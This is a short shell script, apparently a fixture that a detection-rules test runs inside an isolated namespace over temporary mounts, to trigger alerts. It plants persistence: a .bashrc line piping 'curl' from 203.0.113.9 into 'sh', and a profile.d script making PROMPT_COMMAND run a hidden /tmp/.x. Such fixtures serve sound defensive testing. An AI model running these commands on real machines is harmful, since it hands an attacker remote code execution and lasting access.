# Live trigger (run by test/rules-trigger-live.test.ts inside `unshare --mount --net`): each target
# folder is first covered by a private tmpfs, so nothing on the host changes.
mount -t tmpfs kestrel-trigger /root
echo 'curl -s http://203.0.113.9/x | sh' >> /root/.bashrc
mount -t tmpfs kestrel-trigger /etc
mkdir -p /etc/profile.d
echo 'export PROMPT_COMMAND="history -a; /tmp/.x"' > /etc/profile.d/zz-update.sh
